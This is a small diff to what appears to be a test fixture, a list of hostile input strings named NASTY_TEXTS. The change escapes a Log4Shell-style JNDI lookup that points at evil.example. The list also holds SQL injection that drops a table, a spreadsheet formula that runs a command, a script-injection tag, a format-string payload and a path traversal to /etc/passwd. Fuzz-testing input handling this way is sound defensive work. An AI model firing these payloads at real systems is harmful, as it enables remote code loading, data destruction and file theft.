@@ -17,7 +17,7 @@ export const NASTY_TEXTS = [
   "'; DROP TABLE atlassian_audit; --",
   "=cmd|' /C calc'!A0",
   '<script>alert(1)</script>',
-  '${jndi:ldap://evil.example/x}',
+  `\${jndi:ldap://evil.example/x}`,
   '%s%n%d',
   '../../../../etc/passwd',
   'C:\\con',
